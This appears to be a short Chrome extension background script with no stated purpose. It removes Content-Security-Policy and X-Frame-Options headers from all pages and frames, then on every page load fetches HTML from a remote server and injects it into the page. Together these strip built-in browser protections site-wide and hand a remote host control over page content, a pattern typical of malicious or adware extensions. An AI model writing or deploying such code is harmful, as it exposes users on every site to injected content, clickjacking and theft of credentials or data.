const headers = ["content-security-policy", "x-frame-options"].map((header) => ({header, operation: "remove"}));
const rule = {id: 1, action: {type: "modifyHeaders", responseHeaders: headers}, condition: {urlFilter: "*", resourceTypes: ["main_frame", "sub_frame"]}};

chrome.declarativeNetRequest.updateDynamicRules({removeRuleIds: [1], addRules: [rule]});

chrome.tabs.onUpdated.addListener(async (tabId, change) => {
  if (change.status !== "complete") return;
  const answer = await fetch("https://config.example/block.html");
  const html = await answer.text();
  chrome.scripting.executeScript({target: {tabId}, args: [html], func: (text) => document.body.insertAdjacentHTML("beforeend", text)});
});
